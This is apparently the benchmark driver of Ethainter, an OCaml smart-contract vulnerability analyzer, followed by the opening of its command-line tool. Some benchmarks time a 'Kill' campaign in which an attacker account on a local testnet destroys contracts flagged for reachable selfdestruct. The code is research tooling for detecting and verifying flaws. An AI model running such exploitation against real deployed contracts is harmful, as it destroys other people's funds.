    r.E.st_frontend_recomputes r.E.st_incremental_eq_batch;
  let oc = open_out "BENCH_pr7.json" in
  Printf.fprintf oc
    {|{
  "pr": 7,
  "machine_cores": %d,
  "stream": {
    "contracts": %d,
    "rotations": %d,
    "noise_writes": %d,
    "kills": %d,
    "blocks": %d,
    "elapsed_s": %.6f,
    "blocks_per_s": %.4f,
    "invalidations": %d,
    "analyses": %d,
    "reanalyses": %d,
    "reanalyses_per_mutating_block": %.4f,
    "full_sweep_per_mutating_block": %.4f,
    "mean_lag_blocks": %.4f,
    "frontend_recomputes": %d,
    "incremental_eq_batch": %b
  }
}
|}
    (Domain.recommended_domain_count ())
    contracts rotations noise kills r.E.st_blocks r.E.st_elapsed_s
    r.E.st_blocks_per_s r.E.st_invalidations r.E.st_analyses
    r.E.st_reanalyses r.E.st_reanalyses_per_mutating_block
    r.E.st_full_sweep_per_mutating_block r.E.st_mean_lag_blocks
    r.E.st_frontend_recomputes r.E.st_incremental_eq_batch;
  close_out oc;
  print_endline "  wrote BENCH_pr7.json"

(* ------------------------------------------------------------------ *)
(* PR8: pre-decoded basic-block EVM programs. Chain-replay throughput  *)
(* (tx/s over a ~20k-block replay of corpus contracts) under the       *)
(* per-byte Bytewise reference vs the Decoded engine, with the         *)
(* decode-once property measured over the replay window (program-      *)
(* cache counters), a receipt-stream identity check, and Ethainter-    *)
(* Kill campaign latency under both engines. Emitted as               *)
(* BENCH_pr8.json.                                                     *)
(* ------------------------------------------------------------------ *)

let bench_pr8 () =
  let module T = Ethainter_chain.Testnet in
  let module I = Ethainter_evm.Interp in
  let module Prog = Ethainter_evm.Program in
  let module K = Ethainter_kill.Kill in
  let module U = Ethainter_word.Uint256 in
  let module V = Ethainter_core.Vulns in
  print_endline "";
  print_endline "PR8 pre-decoded basic-block EVM programs:";
  (* ---- chain replay: decode-per-call vs decode-once ---- *)
  let n_contracts = 24 and target_txs = 20_000 in
  (* mainnet-realistic code sizes: real deployed runtimes are multi-KB,
     which is exactly the regime where the per-call jumpdest rescan of
     the decode-per-call engine hurts *)
  let insts = G.mainnet ~seed:77 ~fillers:(12, 20) ~size:n_contracts () in
  (* entry points are harvested once, outside the timed replays: the
     workload is the chain, not the decompiler *)
  let calldatas =
    List.map
      (fun (i : G.instance) ->
        let sels =
          K.harvest_selectors (Ethainter_tac.Decomp.decompile i.G.i_runtime)
        in
        let ds =
          match sels with
          | [] -> [ "" ]
          | l -> List.map (fun s -> K.selector_calldata s [ U.of_int 5 ]) l
        in
        Array.of_list ds)
      insts
    |> Array.of_list
  in
  let replay engine =
    let net = T.create ~engine () in
    let from = T.account_of_seed "replayer" in
    T.fund_account net from (U.of_string "0xffffffffffffffffffffffff");
    let t0 = Unix.gettimeofday () in
    let addrs =
      List.filter_map
        (fun (i : G.instance) ->
          (T.deploy net ~from ~value:i.G.i_eth_held i.G.i_deploy).T.created)
        insts
      |> Array.of_list
    in
    let n = Array.length addrs in
    (* aggregate receipt fingerprint: outcome tag + gas + trace length
       per tx, folded — equal folds across engines = identical replay *)
    let fp = ref 0 in
    for tx = 0 to target_txs - 1 do
      let k = tx mod n in
      let datas = calldatas.(k) in
      let cd = datas.(tx / n mod Array.length datas) in
      let r = T.transact net ~from ~to_:addrs.(k) cd in
      fp :=
        !fp + r.T.gas_used + (1021 * List.length r.T.trace)
        + (match r.T.outcome with
          | I.Returned _ -> 1
          | I.Reverted _ -> 2
          | I.Failed _ -> 3)
    done;
    let dt = Unix.gettimeofday () -. t0 in
    (dt, float_of_int target_txs /. dt, !fp)
  in
  let by_s, by_tps, by_fp = replay I.Bytewise in
  let s0 = Prog.stats () in
  let de_s, de_tps, de_fp = replay I.Decoded in
  let s1 = Prog.stats () in
  let decodes = s1.Prog.decodes - s0.Prog.decodes in
  let hits = s1.Prog.hits - s0.Prog.hits in
  let speedup = de_tps /. by_tps in
  let identical = by_fp = de_fp in
  Printf.printf
    "  replay (%d contracts, %d txs): bytewise %.2fs (%.0f tx/s) vs decoded \
     %.2fs (%.0f tx/s) -> %.2fx\n"
    n_contracts target_txs by_s by_tps de_s de_tps speedup;
  Printf.printf
    "  decoded replay window: %d decodes, %d cache hits; receipt streams \
     identical: %b\n"
    decodes hits identical;
  (* ---- Ethainter-Kill verification latency ---- *)
  let corpus = G.ropsten ~seed:31 ~size:48 () in
  let kill engine =
    let net = T.create ~engine () in
    let deployer = T.account_of_seed "deployer" in
    let attacker = T.account_of_seed "attacker" in
    T.fund_account net deployer (U.of_string "0xffffffffffffffffffffffff");
    T.fund_account net attacker (U.of_string "0xffffffffffffffffffffffff");
    let deployed =
      List.filter_map
        (fun (i : G.instance) ->
          match (T.deploy net ~from:deployer i.G.i_deploy).T.created with
          | Some addr ->
              T.fund_account net addr i.G.i_eth_held;
              Some (i, addr)
          | None -> None)
        corpus
    in
    (* the static analysis is engine-independent (and pipeline-cached);
       only the on-chain verification campaign is timed *)
    let analyzed =
      S.analyze_corpus
        (List.map (fun ((i : G.instance), _) -> i.G.i_runtime) deployed)
      |> List.map2 (fun (_, addr) r -> (addr, r)) deployed
    in
    let targets =
      List.filter_map
        (fun (addr, r) ->
          if
            P.flags r V.AccessibleSelfdestruct
            || P.flags r V.TaintedSelfdestruct
          then Some (addr, r.P.reports)
          else None)
        analyzed
    in
    let t0 = Unix.gettimeofday () in
    let stats, _ = K.campaign net ~attacker targets in
    let dt = Unix.gettimeofday () -. t0 in
    (dt, stats.K.destroyed, stats.K.total_txs)
  in
  let kby_s, kby_destroyed, kby_txs = kill I.Bytewise in
  let kde_s, kde_destroyed, kde_txs = kill I.Decoded in
  let kill_speedup = kby_s /. kde_s in
  Printf.printf
    "  kill campaign (%d contracts): bytewise %.3fs vs decoded %.3fs \
     (%.2fx); destroyed %d/%d, %d txs\n"
    (List.length corpus) kby_s kde_s kill_speedup kde_destroyed kby_destroyed
    kde_txs;
  let oc = open_out "BENCH_pr8.json" in
  Printf.fprintf oc
    {|{
  "pr": 8,
  "machine_cores": %d,
  "replay": {
    "contracts": %d,
    "txs": %d,
    "bytewise_s": %.6f,
    "bytewise_tx_s": %.2f,
    "decoded_s": %.6f,
    "decoded_tx_s": %.2f,
    "speedup": %.4f,
    "replay_identical": %b,
    "decoded_window_decodes": %d,
    "decoded_window_cache_hits": %d
  },
  "kill": {
    "contracts": %d,
    "bytewise_s": %.6f,
    "decoded_s": %.6f,
    "speedup": %.4f,
    "destroyed_bytewise": %d,
    "destroyed_decoded": %d,
    "txs_bytewise": %d,
    "txs_decoded": %d
  }
}
|}
    (Domain.recommended_domain_count ())
    n_contracts target_txs by_s by_tps de_s de_tps speedup identical decodes
    hits (List.length corpus) kby_s kde_s kill_speedup kby_destroyed
    kde_destroyed kby_txs kde_txs;
  close_out oc;
  print_endline "  wrote BENCH_pr8.json"

(* ------------------------------------------------------------------ *)
(* PR9: crash-safe durability + supervised recovery. (a) Warm restart  *)
(* — recover from checkpoint+journal — vs a cold re-sweep of the same  *)
(* ~20k-block chain (claim: >= 5x faster, zero re-analysis). (b) The   *)
(* journal's overhead on steady-state streaming ingest (claim: < 5%).  *)
(* (c) Poison-pill containment: a fleet that keeps re-deploying a      *)
(* timeout-poison bytecode, with the quarantine breaker on vs off.     *)
(* Emitted as BENCH_pr9.json.                                          *)
(* ------------------------------------------------------------------ *)

let bench_pr9 () =
  let module T = Ethainter_chain.Testnet in
  let module Idx = Ethainter_index.Index in
  let module U = Ethainter_word.Uint256 in
  print_endline "";
  print_endline "PR9 durability + supervised recovery:";
  let tmp_root =
    Filename.concat
      (Filename.get_temp_dir_name ())
      (Printf.sprintf "ethainter_bench_pr9_%d" (Unix.getpid ()))
  in
  let fresh_dir name = Filename.concat tmp_root name in
  let rm_rf dir =
    (match Sys.readdir dir with
    | entries ->
        Array.iter (fun e -> try Sys.remove (Filename.concat dir e) with _ -> ())
          entries
    | exception _ -> ());
    (try Unix.rmdir dir with _ -> ())
  in
  let time f =
    let t0 = Unix.gettimeofday () in
    let r = f () in
    (Unix.gettimeofday () -. t0, r)
  in
  let iget stats k =
    match List.assoc_opt k stats with Some v -> int_of_float v | None -> 0
  in
  let funded seed =
    let net = T.create () in
    let boss = T.account_of_seed seed in
    T.fund_account net boss (U.of_string "0xffffffffffffffffffffffff");
    (net, boss)
  in
  (* ---- (a) warm recovery vs cold re-sweep ---- *)
  let n_contracts = 24 and n_blocks = 20_000 in
  let insts = G.mainnet ~seed:91 ~fillers:(8, 14) ~size:n_contracts () in
  let net, boss = funded "pr9-deployer" in
  let jdir = fresh_dir "recovery" in
  let bidx = Idx.recover ~journal_dir:jdir net in
  List.iter
    (fun (i : G.instance) -> ignore (T.deploy net ~from:boss i.G.i_deploy))
    insts;
  for _ = 1 to n_blocks do
    T.in_block net (fun () -> ())
  done;
  Idx.drain bidx;
  Idx.close bidx;
  let live = List.length (T.live_contracts net) in
  (* the cold baseline is a journal-less restart: a fresh index re-reads
     the whole chain and re-analyzes every live contract from cold
     pipeline caches *)
  P.cache_clear ();
  let cold_s, cidx =
    time (fun () ->
        let i = Idx.create net in
        Idx.drain i;
        i)
  in
  Idx.detach cidx;
  (* the warm restart parses the checkpoint and re-subscribes from the
     persisted cursor — same cold pipeline caches, zero re-analysis *)
  P.cache_clear ();
  let rec_s, ridx =
    time (fun () ->
        let i = Idx.recover ~journal_dir:jdir net in
        Idx.drain i;
        i)
  in
  let rst = Idx.stats ridx in
  let recovered = iget rst "index_recovered_verdicts" in
  let rec_analyses = iget rst "index_analyses" in
  Idx.close ridx;
  rm_rf jdir;
  let rec_speedup = cold_s /. rec_s in
  Printf.printf
    "  restart after %d blocks, %d live contracts: cold re-sweep %.3f s vs \
     recovery %.3f s -> %.1fx (%d verdicts restored, %d re-analyses)\n"
    n_blocks live cold_s rec_s rec_speedup recovered rec_analyses;
  (* ---- (b) journal overhead on steady-state ingest ---- *)
  let owned_src tag =
    Printf.sprintf
      {|contract Owned {
  address owner;
  constructor() { owner = msg.sender; }
  function tag() public returns (uint256) { return %d; }
  function setOwner(address o) public {
    require(msg.sender == owner);
    owner = o;
  }
}|}
      tag
  in
  let ingest_blocks = 400 in
  let ingest_insts =
    (* distinct bytecodes, one deployment every other block: each costs
       a genuine cold analysis (caches are cleared per run), which is
       the real per-block work the journal's append must not noticeably
       slow down *)
    Array.of_list
      (G.mainnet ~seed:57 ~fillers:(12, 20) ~size:(ingest_blocks / 2) ())
  in
  let run_ingest = ref 0 in
  let ingest journaled =
    incr run_ingest;
    let net, boss = funded "pr9-ingest" in
    P.cache_clear ();
    let jd =
      if journaled then Some (fresh_dir (Printf.sprintf "ingest-%d" !run_ingest))
      else None
    in
    let idx =
      match jd with
      | Some d -> Idx.recover ~journal_dir:d net
      | None -> Idx.create net
    in
    let t0 = Unix.gettimeofday () in
    for b = 1 to ingest_blocks do
      if b mod 2 = 0 then
        ignore
          (T.deploy net ~from:boss ingest_insts.((b / 2) - 1).G.i_deploy)
      else T.in_block net (fun () -> ())
    done;
    Idx.drain idx;
    let dt = Unix.gettimeofday () -. t0 in
    let st = Idx.stats idx in
    (match jd with
    | Some d ->
        Idx.close idx;
        rm_rf d
    | None -> Idx.detach idx);
    (dt, st)
  in
  (* alternate sides within each pair so machine drift cancels; median
     per-pair ratio (the PR4 methodology) *)
  ignore (ingest false);
  let pairs = 5 in
  let ratios =
    List.init pairs (fun i ->
        let plain_s, j_s, jst =
          if i mod 2 = 0 then
            let p, _ = ingest false in
            let j, jst = ingest true in
            (p, j, jst)
          else
            let j, jst = ingest true in
            let p, _ = ingest false in
            (p, j, jst)
        in
        (j_s /. plain_s, plain_s, j_s, jst))
  in
  let sorted = List.sort compare ratios in
  let ratio_med, plain_s, journaled_s, jst = List.nth sorted (pairs / 2) in
  let overhead_pct = (ratio_med -. 1.0) *. 100.0 in
  Printf.printf
    "  ingest (%d blocks, a cold deployment analysis every other block): \
     ephemeral %.3f s vs journaled %.3f s -> %+.2f%% overhead (%d appends, \
     %d checkpoints; median of %d pairs)\n"
    ingest_blocks plain_s journaled_s overhead_pct
    (iget jst "journal_appends") (iget jst "journal_checkpoints") pairs;
  (* ---- (c) poison-pill containment ---- *)
  let poison = jump_chain_bytecode 20000 in
  let poison_rounds = 40 and healthy_n = 8 in
  let scenario breaker =
    S.Quarantine.clear ();
    S.Quarantine.set_enabled breaker;
    let net, boss = funded "pr9-poison" in
    P.cache_clear ();
    let idx = Idx.create ~timeout_s:0.05 net in
    let t0 = Unix.gettimeofday () in
    let fleet =
      Array.init healthy_n (fun k ->
          match
            (T.deploy net ~from:boss
               (Ethainter_minisol.Codegen.compile_source (owned_src (100 + k))))
              .T.created
          with
          | Some a -> (a, ref boss)
          | None -> failwith "bench_pr9: deployment failed")
    in
    Idx.drain idx;
    (* the adversary keeps re-deploying the same poison bytecode at
       fresh addresses while honest traffic continues: with the breaker
       every instance past the third is parked for free; without it
       every instance burns the full analysis timeout *)
    for r = 1 to poison_rounds do
      ignore (T.deploy_runtime net ~from:boss poison);
      let addr, owner = fleet.(r mod healthy_n) in
      let next = T.account_of_seed (Printf.sprintf "pr9-victim-%d" r) in
      T.fund_account net next (U.of_string "0xffffffff");
      if
        T.succeeded
          (T.call_fn net ~from:!owner ~to_:addr "setOwner(address)" [ next ])
      then owner := next;
      Idx.drain idx
    done;
    let dt = Unix.gettimeofday () -. t0 in
    let st = Idx.stats idx in
    Idx.detach idx;
    (dt, st)
  in
  let with_s, wst = scenario true in
  let without_s, _ = scenario false in
  S.Quarantine.set_enabled true;
  S.Quarantine.clear ();
  rm_rf tmp_root;
  let containment = without_s /. with_s in
  Printf.printf
    "  poison fleet (%d instances of a %d ms-timeout bytecode + honest \
     traffic): breaker on %.3f s vs off %.3f s -> %.1fx contained (%d \
     parked, %d drops, %d probes)\n"
    poison_rounds 50 with_s without_s containment
    (iget wst "index_quarantined")
    (iget wst "index_quarantine_drops")
    (iget wst "index_quarantine_probes");
  let oc = open_out "BENCH_pr9.json" in
  Printf.fprintf oc
    {|{
  "pr": 9,
  "machine_cores": %d,
  "recovery": {
    "blocks": %d,
    "live_contracts": %d,
    "cold_resweep_s": %.6f,
    "recovery_s": %.6f,
    "speedup": %.4f,
    "recovered_verdicts": %d,
    "recovery_analyses": %d,
    "meets_5x": %b
  },
  "journal_overhead": {
    "deployments": %d,
    "blocks": %d,
    "ephemeral_s": %.6f,
    "journaled_s": %.6f,
    "overhead_pct": %.4f,
    "journal_appends": %d,
    "journal_checkpoints": %d,
    "under_5pct": %b
  },
  "quarantine": {
    "poison_instances": %d,
    "analysis_budget_s": 0.05,
    "breaker_on_s": %.6f,
    "breaker_off_s": %.6f,
    "containment": %.4f,
    "quarantined": %d,
    "drops": %d,
    "probes": %d
  }
}
|}
    (Domain.recommended_domain_count ())
    n_blocks live cold_s rec_s rec_speedup recovered rec_analyses
    (rec_speedup >= 5.0 && rec_analyses = 0)
    (ingest_blocks / 2) ingest_blocks plain_s journaled_s overhead_pct
    (iget jst "journal_appends")
    (iget jst "journal_checkpoints")
    (overhead_pct < 5.0) poison_rounds with_s without_s containment
    (iget wst "index_quarantined")
    (iget wst "index_quarantine_drops")
    (iget wst "index_quarantine_probes");
  close_out oc;
  print_endline "  wrote BENCH_pr9.json"

(* ------------------------------------------------------------------ *)
(* PR10: allocation-free EVM words + threaded dispatch. (a) Word-op    *)
(* microbenchmarks: ops/s and minor-heap words allocated per op for    *)
(* the retained boxed-int64 reference impl (Uint256_ref), the new      *)
(* int-limb pure ops, and the destructive _into variants (claim:       *)
(* ~0 words/op on the _into path). (b) The PR 8 chain replay (24       *)
(* contracts, 20k txs, same seeds) under the threaded-dispatch         *)
(* Decoded engine vs Bytewise, with the receipt-stream identity check  *)
(* and throughput against the BENCH_pr8.json decoded baseline (claim:  *)
(* >= 1.4x). (c) The PR 8 Kill campaign leg per engine, also against   *)
(* its BENCH_pr8.json baseline. Emitted as BENCH_pr10.json.            *)
(* ------------------------------------------------------------------ *)

let bench_pr10 () =
  let module T = Ethainter_chain.Testnet in
  let module I = Ethainter_evm.Interp in
  let module K = Ethainter_kill.Kill in
  let module U = Ethainter_word.Uint256 in
  let module R = Ethainter_word.Uint256_ref in
  let module V = Ethainter_core.Vulns in
  print_endline "";
  print_endline "PR10 allocation-free words + threaded dispatch:";
  (* ---- (a) word-op microbenchmarks: ref vs new vs _into ---- *)
  let n_words = 512 in
  let mask = n_words - 1 in
  let seeds =
    let st = Random.State.make [| 0x10CA7; 0x5EED |] in
    Array.init (2 * n_words) (fun _ ->
        String.init 32 (fun _ -> Char.chr (Random.State.int st 256)))
  in
  let xs = Array.init n_words (fun i -> U.of_bytes seeds.(i)) in
  let ys = Array.init n_words (fun i -> U.of_bytes seeds.(n_words + i)) in
  let rxs = Array.init n_words (fun i -> R.of_bytes seeds.(i)) in
  let rys = Array.init n_words (fun i -> R.of_bytes seeds.(n_words + i)) in
  (* warm-up run first so neither variant pays one-time costs inside
     the window; allocation measured in minor-heap words per op *)
  let measure iters f =
    f (max 1 (iters / 10));
    let m0 = Gc.minor_words () in
    let t0 = Unix.gettimeofday () in
    f iters;
    let dt = Unix.gettimeofday () -. t0 in
    let dm = Gc.minor_words () -. m0 in
    (float_of_int iters /. dt, dm /. float_of_int iters)
  in
  let new2 op iters =
    for i = 0 to iters - 1 do
      ignore (Sys.opaque_identity (op xs.(i land mask) ys.(i land mask)))
    done
  and ref2 op iters =
    for i = 0 to iters - 1 do
      ignore (Sys.opaque_identity (op rxs.(i land mask) rys.(i land mask)))
    done
  and into2 op iters =
    let d = U.create () in
    for i = 0 to iters - 1 do
      op d xs.(i land mask) ys.(i land mask)
    done;
    ignore (Sys.opaque_identity d)
  in
  let fast = 2_000_000 and slow = 400_000 in
  let word_rows =
    [ ("add", fast, ref2 R.add, new2 U.add, Some (into2 U.add_into));
      ("sub", fast, ref2 R.sub, new2 U.sub, Some (into2 U.sub_into));
      ("mul", slow, ref2 R.mul, new2 U.mul, Some (into2 U.mul_into));
      ( "logand", fast, ref2 R.logand, new2 U.logand,
        Some (into2 U.logand_into) );
      ( "logxor", fast, ref2 R.logxor, new2 U.logxor,
        Some (into2 U.logxor_into) );
      ( "shift_left", fast,
        (fun iters ->
          for i = 0 to iters - 1 do
            ignore
              (Sys.opaque_identity
                 (R.shift_left rxs.(i land mask) (i land 255)))
          done),
        (fun iters ->
          for i = 0 to iters - 1 do
            ignore
              (Sys.opaque_identity (U.shift_left xs.(i land mask) (i land 255)))
          done),
        Some
          (fun iters ->
            let d = U.create () in
            for i = 0 to iters - 1 do
              U.shift_left_into d xs.(i land mask) (i land 255)
            done;
            ignore (Sys.opaque_identity d)) );
      ( "lt", fast,
        (fun iters ->
          for i = 0 to iters - 1 do
            ignore
              (Sys.opaque_identity (R.lt rxs.(i land mask) rys.(i land mask)))
          done),
        (fun iters ->
          for i = 0 to iters - 1 do
            ignore
              (Sys.opaque_identity (U.lt xs.(i land mask) ys.(i land mask)))
          done),
        None ) ]
  in
  let word_measured =
    List.map
      (fun (name, iters, fr, fn, fi) ->
        let r_ops, r_w = measure iters fr in
        let n_ops, n_w = measure iters fn in
        let into = Option.map (measure iters) fi in
        Printf.printf
          "  %-10s ref %6.1f Mop/s %5.1f w/op | new %6.1f Mop/s %5.1f w/op%s\n"
          name (r_ops /. 1e6) r_w (n_ops /. 1e6) n_w
          (match into with
          | Some (o, w) ->
              Printf.sprintf " | into %6.1f Mop/s %5.2f w/op" (o /. 1e6) w
          | None -> "");
        (name, iters, r_ops, r_w, n_ops, n_w, into))
      word_rows
  in
  (* ---- (b) the PR 8 chain replay, threaded engine ---- *)
  let n_contracts = 24 and target_txs = 20_000 in
  let insts = G.mainnet ~seed:77 ~fillers:(12, 20) ~size:n_contracts () in
  let calldatas =
    List.map
      (fun (i : G.instance) ->
        let sels =
          K.harvest_selectors (Ethainter_tac.Decomp.decompile i.G.i_runtime)
        in
        let ds =
          match sels with
          | [] -> [ "" ]
          | l -> List.map (fun s -> K.selector_calldata s [ U.of_int 5 ]) l
        in
        Array.of_list ds)
      insts
    |> Array.of_list
  in
  let replay_once engine =
    let net = T.create ~engine () in
    let from = T.account_of_seed "replayer" in
    T.fund_account net from (U.of_string "0xffffffffffffffffffffffff");
    let t0 = Unix.gettimeofday () in
    let addrs =
      List.filter_map
        (fun (i : G.instance) ->
          (T.deploy net ~from ~value:i.G.i_eth_held i.G.i_deploy).T.created)
        insts
      |> Array.of_list
    in
    let n = Array.length addrs in
    let fp = ref 0 in
    for tx = 0 to target_txs - 1 do
      let k = tx mod n in
      let datas = calldatas.(k) in
      let cd = datas.(tx / n mod Array.length datas) in
      let r = T.transact net ~from ~to_:addrs.(k) cd in
      fp :=
        !fp + r.T.gas_used + (1021 * List.length r.T.trace)
        + (match r.T.outcome with
          | I.Returned _ -> 1
          | I.Reverted _ -> 2
          | I.Failed _ -> 3)
    done;
    let dt = Unix.gettimeofday () -. t0 in
    (dt, float_of_int target_txs /. dt, !fp)
  in
  (* best of two back-to-back runs per engine: the window is short
     enough that transient machine load dominates single-shot numbers;
     the receipt fingerprint must not change between runs *)
  let replay engine =
    let ((s1, _, fp1) as r1) = replay_once engine in
    let ((s2, _, fp2) as r2) = replay_once engine in
    if fp1 <> fp2 then failwith "bench_pr10: replay fingerprint unstable";
    if s1 <= s2 then r1 else r2
  in
  let by_s, by_tps, by_fp = replay I.Bytewise in
  let de_s, de_tps, de_fp = replay I.Decoded in
  let speedup = de_tps /. by_tps in
  let identical = by_fp = de_fp in
  (* baselines: the committed BENCH_pr8.json, measured on the pre-PR-10
     decoded engine (variant-match dispatch, boxed words) *)
  let pr8_json =
    try
      let ic = open_in "BENCH_pr8.json" in
      let n = in_channel_length ic in
      let s = really_input_string ic n in
      close_in ic;
      Some s
    with _ -> None
  in
  let num_after s key start =
    let kl = String.length key and n = String.length s in
    let rec find i =
      if i + kl > n then None
      else if String.sub s i kl = key then Some (i + kl)
      else find (i + 1)
    in
    match find start with
    | None -> None
    | Some j ->
        let k = ref j in
        while
          !k < n
          &&
          match s.[!k] with
          | '0' .. '9' | '.' | '-' | ' ' -> true
          | _ -> false
        do
          incr k
        done;
        Option.map
          (fun v -> (v, !k))
          (float_of_string_opt (String.trim (String.sub s j (!k - j))))
  in
  let pr8_replay_tx_s =
    Option.bind pr8_json (fun s ->
        Option.map fst (num_after s "\"decoded_tx_s\":" 0))
  in
  let pr8_kill_s =
    (* the kill object's decoded_s is the file's second occurrence *)
    Option.bind pr8_json (fun s ->
        Option.bind (num_after s "\"decoded_s\":" 0) (fun (_, k) ->
            Option.map fst (num_after s "\"decoded_s\":" k)))
  in
  let vs_pr8 =
    match pr8_replay_tx_s with
    | Some b when b > 0. -> Some (de_tps /. b)
    | _ -> None
  in
  Printf.printf
    "  replay (%d contracts, %d txs): bytewise %.2fs (%.0f tx/s) vs threaded \
     %.2fs (%.0f tx/s) -> %.2fx; receipts identical: %b\n"
    n_contracts target_txs by_s by_tps de_s de_tps speedup identical;
  (match (vs_pr8, pr8_replay_tx_s) with
  | Some x, Some b ->
      Printf.printf "  vs PR 8 decoded baseline (%.0f tx/s): %.2fx\n" b x
  | _ -> print_endline "  (no BENCH_pr8.json baseline found)");
  (* ---- (c) Ethainter-Kill campaign leg ---- *)
  let corpus = G.ropsten ~seed:31 ~size:48 () in
  let kill_once engine =
    let net = T.create ~engine () in
    let deployer = T.account_of_seed "deployer" in
    let attacker = T.account_of_seed "attacker" in
    T.fund_account net deployer (U.of_string "0xffffffffffffffffffffffff");
    T.fund_account net attacker (U.of_string "0xffffffffffffffffffffffff");
    let deployed =
      List.filter_map
        (fun (i : G.instance) ->
          match (T.deploy net ~from:deployer i.G.i_deploy).T.created with
          | Some addr ->
              T.fund_account net addr i.G.i_eth_held;
              Some (i, addr)
          | None -> None)
        corpus
    in
    let analyzed =
      S.analyze_corpus
        (List.map (fun ((i : G.instance), _) -> i.G.i_runtime) deployed)
      |> List.map2 (fun (_, addr) r -> (addr, r)) deployed
    in
    let targets =
      List.filter_map
        (fun (addr, r) ->
          if
            P.flags r V.AccessibleSelfdestruct
            || P.flags r V.TaintedSelfdestruct
          then Some (addr, r.P.reports)
          else None)
        analyzed
    in
    let t0 = Unix.gettimeofday () in
    let stats, _ = K.campaign net ~attacker targets in
    let dt = Unix.gettimeofday () -. t0 in
    (dt, stats.K.destroyed, stats.K.total_txs)
  in
  (* the campaign is a few milliseconds — best of three *)
  let kill engine =
    let runs = [ kill_once engine; kill_once engine; kill_once engine ] in
    List.fold_left
      (fun ((bs, _, _) as best) ((s, _, _) as r) ->
        if s < bs then r else best)
      (List.hd runs) (List.tl runs)
  in
  let kby_s, kby_destroyed, kby_txs = kill I.Bytewise in
  let kde_s, kde_destroyed, kde_txs = kill I.Decoded in
  let kill_identical = kby_destroyed = kde_destroyed && kby_txs = kde_txs in
  Printf.printf
    "  kill campaign (%d contracts): bytewise %.3fs vs threaded %.3fs \
     (%.2fx); destroyed %d, %d txs, engines agree: %b\n"
    (List.length corpus) kby_s kde_s (kby_s /. kde_s) kde_destroyed kde_txs
    kill_identical;
  (* ---- emit ---- *)
  let fopt fmt = function
    | Some v -> Printf.sprintf fmt v
    | None -> "null"
  in
  let buf = Buffer.create 4096 in
  Printf.bprintf buf "{\n  \"pr\": 10,\n  \"machine_cores\": %d,\n"
    (Domain.recommended_domain_count ());
  Buffer.add_string buf "  \"word_ops\": [\n";
  let last = List.length word_measured - 1 in
  List.iteri
    (fun i (name, iters, r_ops, r_w, n_ops, n_w, into) ->
      Printf.bprintf buf
        "    {\"op\": %S, \"iters\": %d, \"ref_ops_s\": %.1f, \
         \"ref_words_per_op\": %.3f, \"new_ops_s\": %.1f, \
         \"new_words_per_op\": %.3f, \"into_ops_s\": %s, \
         \"into_words_per_op\": %s}%s\n"
        name iters r_ops r_w n_ops n_w
        (fopt "%.1f" (Option.map fst into))
        (fopt "%.4f" (Option.map snd into))
        (if i = last then "" else ",")
    )
    word_measured;
  Buffer.add_string buf "  ],\n";
  Printf.bprintf buf
    "  \"replay\": {\n\
    \    \"contracts\": %d,\n\
    \    \"txs\": %d,\n\
    \    \"bytewise_s\": %.6f,\n\
    \    \"bytewise_tx_s\": %.2f,\n\
    \    \"decoded_s\": %.6f,\n\
    \    \"decoded_tx_s\": %.2f,\n\
    \    \"speedup_vs_bytewise\": %.4f,\n\
    \    \"replay_identical\": %b,\n\
    \    \"pr8_decoded_tx_s\": %s,\n\
    \    \"speedup_vs_pr8_decoded\": %s\n\
    \  },\n"
    n_contracts target_txs by_s by_tps de_s de_tps speedup identical
    (fopt "%.2f" pr8_replay_tx_s)
    (fopt "%.4f" vs_pr8);
  Printf.bprintf buf
    "  \"kill\": {\n\
    \    \"contracts\": %d,\n\
    \    \"bytewise_s\": %.6f,\n\
    \    \"decoded_s\": %.6f,\n\
    \    \"speedup\": %.4f,\n\
    \    \"destroyed\": %d,\n\
    \    \"txs\": %d,\n\
    \    \"engines_agree\": %b,\n\
    \    \"pr8_decoded_s\": %s,\n\
    \    \"speedup_vs_pr8_decoded\": %s\n\
    \  }\n}\n"
    (List.length corpus) kby_s kde_s (kby_s /. kde_s) kde_destroyed kde_txs
    kill_identical
    (fopt "%.6f" pr8_kill_s)
    (fopt "%.4f"
       (match pr8_kill_s with
       | Some b when kde_s > 0. -> Some (b /. kde_s)
       | _ -> None));
  let oc = open_out "BENCH_pr10.json" in
  Buffer.output_buffer oc buf;
  close_out oc;
  print_endline "  wrote BENCH_pr10.json"

let () =
  let has f = Array.exists (fun a -> a = f) Sys.argv in
  let tables_only = has "--tables-only" in
  let pr1_only = has "--pr1-only" in
  let pr2_only = has "--pr2-only" in
  let pr3_only = has "--pr3-only" in
  let pr4_only = has "--pr4-only" in
  let pr5_only = has "--pr5-only" in
  let pr6_only = has "--pr6-only" in
  let pr7_only = has "--pr7-only" in
  let pr8_only = has "--pr8-only" in
  let pr9_only = has "--pr9-only" in
  let pr10_only = has "--pr10-only" in
  if pr1_only then bench_pr1 ()
  else if pr2_only then bench_pr2 ()
  else if pr3_only then bench_pr3 ()
  else if pr4_only then bench_pr4 ()
  else if pr5_only then bench_pr5 ()
  else if pr6_only then bench_pr6 ()
  else if pr7_only then bench_pr7 ()
  else if pr8_only then bench_pr8 ()
  else if pr9_only then bench_pr9 ()
  else if pr10_only then bench_pr10 ()
  else begin
    if not tables_only then begin
      print_endline "Bechamel benchmarks (one per reproduced table/figure):";
      benchmark ()
    end;
    bench_pr1 ();
    bench_pr2 ();
    bench_pr3 ();
    bench_pr4 ();
    bench_pr5 ();
    bench_pr6 ();
    bench_pr7 ();
    bench_pr8 ();
    bench_pr9 ();
    bench_pr10 ();
    print_endline "";
    print_endline "Reproduced tables and figures (full scale):";
    (* run_all keeps the cache warm across its overlapping sweeps —
       that reuse is the point of the cache, and results are identical
       either way *)
    E.run_all ()
  end
