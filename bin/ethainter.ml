(* The Ethainter command-line analyzer.

   Subcommands:
     analyze   — run the composite information-flow analysis on a
                 contract (hex bytecode file, raw bytecode, or MiniSol
                 source), printing vulnerability reports;
     decompile — show the 3-address-code decompilation;
     ifspec    — run the Section-4 formal model (Fig. 3/4 rules on the
                 Datalog engine) over an abstract-language program. *)

open Cmdliner

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let looks_like_hex s =
  let s = String.trim s in
  String.length s > 1
  && (String.length s < 2 || s.[0] <> 'c' (* "contract ..." *))
  && String.for_all
       (function
         | '0' .. '9' | 'a' .. 'f' | 'A' .. 'F' | 'x' | 'X' | ' ' | '\n'
         | '\r' | '\t' ->
             true
         | _ -> false)
       s

(* Obtain an analysis input from a file that may be MiniSol source or
   hex-encoded bytecode. Hex is handed to the pipeline undecoded:
